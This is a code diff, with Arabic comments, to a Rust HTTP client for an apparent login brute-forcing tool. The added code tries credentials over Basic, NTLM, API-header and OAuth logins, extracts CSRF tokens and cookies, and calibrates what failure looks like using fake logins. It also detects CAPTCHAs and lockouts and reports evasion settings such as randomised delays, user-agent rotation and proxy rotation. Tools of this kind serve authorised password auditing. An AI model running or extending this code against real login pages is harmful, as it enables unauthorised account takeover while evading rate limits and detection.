+                    .basic_auth(username, Some(password))
+            }
+            AuthType::Ntlm => return self.send_ntlm_request(headers, username, password).await,
+            AuthType::Header => {
+                let (name, template) = self
+                    .secret_header
+                    .as_ref()
+                    .ok_or_else(|| anyhow::anyhow!("مصادقة الترويسة تتطلب --secret-header"))?;
+                let value = template
+                    .replace(USER_PLACEHOLDER, username)
+                    .replace(PASS_PLACEHOLDER, password);
+                
+                let client = self.next_client().await;
+                headers.remove(CONTENT_TYPE);
+                headers.insert(
+                    name.clone(),
+                    HeaderValue::from_str(&value).context("قيمة ترويسة غير صالحة بعد الاستبدال")?,
+                );
+                
+                client
+                    .get(&self.base_url)
+                    .headers(headers)
+            }
+            AuthType::OAuth => {
+                let client = self.next_client().await;
+                headers.insert(CONTENT_TYPE, HeaderValue::from_static("application/x-www-form-urlencoded"));
+                headers.insert(ACCEPT, HeaderValue::from_static("application/json"));
+                
+                client
+                    .post(&self.base_url)
+                    .headers(headers)
+                    .body(self.oauth.token_request(username, password))
+            }
+        };
         
         // إرسال الطلب مع مهلة
+        let response = timeout(self.request_timeout, request.send())
+            .await
+            .context("مهلة الطلب انتهت")?
+            .context("فشل في إرسال الطلب")?;
+        
+        Ok(response)
+    }
+    
+    /// جلب صفحة تسجيل الدخول واستخراج رمز CSRF مع كوكيز الجلسة المرتبطة به
+    async fn fetch_csrf_token(
+        &self,
+        client: &Client,
+        extractor: &CsrfExtractor,
+        headers: &HeaderMap,
+    ) -> Result<CsrfToken> {
+        let mut page_headers = headers.clone();
+        page_headers.remove(CONTENT_TYPE);
+        
         let response = timeout(
             self.request_timeout,
-            self.client
-                .post(&self.base_url)
-                .headers(headers)
-                .form(&form_data)
+            client.get(&self.base_url).headers(page_headers).send(),
         )
         .await
-        .context("مهلة الطلب انتهت")?
-        .send()
-        .await
-        .context("فشل في إرسال الطلب")?;
+        .context("مهلة جلب صفحة تسجيل الدخول انتهت")?
+        .context("فشل في جلب صفحة تسجيل الدخول")?;
         
-        Ok(response)
+        // دمج كوكيز الجلسة الجديدة مع الكوكيز المحددة مسبقًا
+        let session_cookies: Vec<String> = response
+            .headers()
+            .get_all(SET_COOKIE)
+            .iter()
+            .filter_map(|v| v.to_str().ok())
+            .filter_map(|v| v.split(';').next())
+            .map(str::to_string)
+            .chain(self.cookies.clone())
+            .collect();
+        
+        let html = response.text().await.context("فشل في قراءة صفحة تسجيل الدخول")?;
+        let value = extractor
+            .extract(&html)
+            .ok_or_else(|| anyhow::anyhow!("لم يتم العثور على رمز CSRF ({})", extractor.field()))?;
+        
+        Ok(CsrfToken {
+            field: extractor.field().to_string(),
+            value,
+            cookies: (!session_cookies.is_empty()).then(|| session_cookies.join("; ")),
+        })
+    }
+    
+    /// إرسال طلب مصادقة NTLM (تفاوض Type 1 ثم مصادقة Type 3)
+    ///
+    /// يجب أن تتم الخطوتان على نفس الاتصال، لذا يُستخدم عميل مخصص
+    /// بدون مشاركة اتصالات مع المهام الأخرى.
+    async fn send_ntlm_request(
+        &self,
+        mut headers: HeaderMap,
+        username: &str,
+        password: &str,
+    ) -> Result<Response> {
+        let (domain, user) = ntlm::split_domain(username);
+        headers.remove(CONTENT_TYPE);
+        
+        let client = Self::base_builder(&self.transport)
+            .timeout(self.request_timeout)
+            .pool_max_idle_per_host(1)
+            .http1_only()
+            .build()
+            .context("فشل في بناء عميل NTLM")?;
+        
+        // الخطوة 1: رسالة التفاوض
+        let negotiate = client
+            .get(&self.base_url)
+            .headers(headers.clone())
+            .header(AUTHORIZATION, format!("NTLM {}", ntlm::negotiate_message()))
+            .send()
+            .await
+            .context("فشل في إرسال رسالة تفاوض NTLM")?;
+        
+        let challenge_header = negotiate
+            .headers()
+            .get_all(WWW_AUTHENTICATE)
+            .iter()
+            .filter_map(|v| v.to_str().ok())
+            .find(|v| v.starts_with("NTLM "))
+            .map(str::to_string)
+            .ok_or_else(|| anyhow::anyhow!("الهدف لا يدعم مصادقة NTLM (الحالة {})", negotiate.status()))?;
+        
+        // استهلاك المحتوى لإبقاء الاتصال قابلًا لإعادة الاستخدام
+        let _ = negotiate.bytes().await;
+        
+        // الخطوة 2: الرد على التحدي
+        let challenge = ntlm::parse_challenge_header(&challenge_header)?;
+        let authenticate = ntlm::authenticate_message(&challenge, domain, user, password);
+        
+        client
+            .get(&self.base_url)
+            .headers(headers)
+            .header(AUTHORIZATION, format!("NTLM {}", authenticate))
+            .send()
+            .await
+            .context("فشل في إرسال رسالة مصادقة NTLM")
+    }
+    
+    /// معايرة خط أساس الفشل بإرسال محاولات خاطئة متعمدة
+    ///
+    /// تُستخدم بصمة الفشل (الحالة، الطول، التحويل، المؤشرات) لتصنيف
+    /// الاستجابات اللاحقة بدلًا من الاعتماد على الكلمات المفتاحية فقط.
+    pub async fn calibrate(&self, samples: usize) -> Result<&FailureBaseline> {
+        if let Some(baseline) = self.baseline.get() {
+            return Ok(baseline);
+        }
+        
+        let seed = chrono::Utc::now().timestamp_nanos_opt().unwrap_or_default() as u64;
+        let mut fingerprints = Vec::with_capacity(samples);
+        
+        for i in 0..samples.max(1) as u64 {
+            // بيانات اعتماد عشوائية بأطوال مختلفة لكشف المحتوى المنعكس
+            let username = format!("rf{:x}{}", seed.wrapping_add(i), "x".repeat(i as usize * 3));
+            let password = format!("Inv@lid-{:x}", seed.rotate_left(i as u32 * 7));
+            
+            let response = self
+                .send_login_request(&username, &password)
+                .await
+                .context("فشل في إرسال طلب المعايرة")?;
+            
+            let captured = CapturedResponse::capture(response, &self.base_url).await;
+            fingerprints.push(captured.fingerprint());
+        }
+        
+        let baseline = FailureBaseline::from_samples(&fingerprints)
+            .ok_or_else(|| anyhow::anyhow!("لا توجد عينات للمعايرة"))?;
+        
+        Ok(self.baseline.get_or_init(|| baseline))
     }
     
     /// اختبار سريع بدون تحميل كامل الاستجابة
@@ -186,62 +1096,46 @@ impl HttpClient {
         let response = self.test_login(username, password).await?;
         
         // التحقق السريع من النجاح
-        let success = self.is_success_response(&response).await;
+        let success = self.is_success_response(response).await;
         
         Ok(success)
     }
     
-    /// التحقق من نجاح الاستجابة
-    async fn is_success_response(&self, response: &Response) -> bool {
-        let status = response.status();
+    /// التحقق من نجاح الاستجابة بمطابق النجاح (وخط أساس الفشل إن وجد)
+    pub async fn is_success_response(&self, response: Response) -> bool {
+        self.evaluate_response(response).await.success
+    }
+    
+    /// تقييم الاستجابة: النجاح وكشف CAPTCHA
+    pub async fn evaluate_response(&self, response: Response) -> LoginVerdict {
+        let captured = CapturedResponse::capture(response, &self.base_url).await;
         
-        // التحقق من الحالة مباشرة
-        if status.is_success() {
-            return true;
+        // المحاولة المحجوبة بـ CAPTCHA لا تُعتبر ناجحة
+        if let Some(kind) = captcha::detect(&captured) {
+            return LoginVerdict { success: false, captcha: Some(kind), lockout: None };
         }
         
-        // في بعض الأنظمة، التحويل قد يعني النجاح
-        if status.is_redirection() {
-            if let Some(location) = response.headers().get("Location") {
-                let location_str = location.to_str().unwrap_or("");
-                return !location_str.contains("login") && 
-                       !location_str.contains("error") &&
-                       !location_str.contains("fail");
+        // رسائل القفل المعروفة للإعداد الجاهز
+        if !self.lockout_markers.is_empty() {
+            let body = captured.body.to_lowercase();
+            if let Some((_, mechanism)) = self.lockout_markers.iter().find(|(marker, _)| body.contains(marker)) {
+                return LoginVerdict { success: false, captcha: None, lockout: Some(mechanism) };
             }
         }
         
-        // التحقق من محتوى الاستجابة
-        match response.text().await {
-            Ok(body) => {
-                // مؤشرات الفشل
-                let failure_indicators = [
-                    "invalid", "incorrect", "wrong", "failed", "error",
-                    "login failed", "access denied", "unauthorized",
-                ];
-                
-                // مؤشرات النجاح
-                let success_indicators = [
-                    "welcome", "dashboard", "home", "logout", "profile",
-                    "success", "logged in", "redirecting",
-                ];
-                
-                let body_lower = body.to_lowercase();
-                
-                // حساب النقاط
-                let failure_points: usize = failure_indicators
-                    .iter()
-                    .map(|indicator| body_lower.matches(indicator).count())
-                    .sum();
-                
-                let success_points: usize = success_indicators
-                    .iter()
-                    .map(|indicator| body_lower.matches(indicator).count())
-                    .sum();
-                
-                success_points > failure_points
+        // مصادقة Basic/NTLM: الرفض 401، والقبول 2xx/3xx
+        // مصادقة الترويسة (مفاتيح API): القبول 2xx فقط (ما لم تُحدد قواعد مخصصة)
+        let success = match self.auth_type {
+            _ if self.matcher.has_rules() => self.matcher.evaluate(&captured, self.baseline.get()),
+            AuthType::Basic | AuthType::Ntlm => {
+                captured.status != 401 && (200..400).contains(&captured.status)
             }
-            Err(_) => false,
-        }
+            AuthType::Header => (200..300).contains(&captured.status),
+            AuthType::OAuth => has_access_token(&captured.body),
+            AuthType::Form => self.matcher.evaluate(&captured, self.baseline.get()),
+        };
+        
+        LoginVerdict { success, captcha: None, lockout: None }
     }
     
     /// إرسال طلبات متعددة بالتوازي
@@ -264,7 +1158,7 @@ impl HttpClient {
             let semaphore = Arc::clone(&semaphore);
             
             let task = tokio::spawn(async move {
-                let _permit = semaphore.acquire().await.unwrap();
+                let _permit = semaphore.acquire().await.ok();
                 
                 let form_data = [("username", &u), ("password", &p)];
                 
@@ -312,9 +1206,23 @@ impl HttpClient {
     pub fn get_stats(&self) -> Value {
         serde_json::json!({
             "base_url": self.base_url,
+            "auth_type": self.auth_type.to_string(),
             "timeout_seconds": self.request_timeout.as_secs(),
             "max_retries": self.max_retries,
+            "rate_limit": self.rate_limiter.as_ref().map(|l| l.rate()),
             "has_cookies": self.cookies.is_some(),
+            "calibrated": self.baseline.get().is_some(),
+            "custom_success_rules": self.matcher.has_rules(),
+            "evasion": self.evasion.as_ref().map(|e| json!({
+                "min_delay_ms": e.min_delay.as_millis() as u64,
+                "max_delay_ms": e.max_delay.as_millis() as u64,
+                "rotate_user_agents": e.rotate_user_agents,
+            })),
+            "racing_addresses": self.racer.as_ref().map(|r| r.addresses()),
+            "proxies": self.proxy_routes.iter().map(|r| json!({
+                "url": r.url,
+                "rate_limit": r.limiter.as_ref().map(|l| l.rate()),
+            })).collect::<Vec<_>>(),
         })
     }
 }
@@ -324,10 +1232,29 @@ impl Clone for HttpClient {
         Self {
             client: self.client.clone(),
             base_url: self.base_url.clone(),
+            proxy: self.proxy.clone(),
+            transport: self.transport.clone(),
             default_headers: self.default_headers.clone(),
             request_timeout: self.request_timeout,
             max_retries: self.max_retries,
             cookies: self.cookies.clone(),
+            proxy_routes: self.proxy_routes.clone(),
+            next_route: Arc::clone(&self.next_route),
+            racer: self.racer.clone(),
+            baseline: Arc::clone(&self.baseline),
+            matcher: Arc::clone(&self.matcher),
+            evasion: self.evasion.clone(),
+            user_agent_index: Arc::clone(&self.user_agent_index),
+            rate_limiter: self.rate_limiter.clone(),
+            auth_type: self.auth_type,
+            login_body: self.login_body.clone(),
+            csrf: self.csrf.clone(),
+            lockout_markers: self.lockout_markers,
+            raw_request: self.raw_request.clone(),
+            login_method: self.login_method.clone(),
+            login_query: self.login_query.clone(),
+            secret_header: self.secret_header.clone(),
+            oauth: self.oauth.clone(),
         }
     }
 }
\ No newline at end of file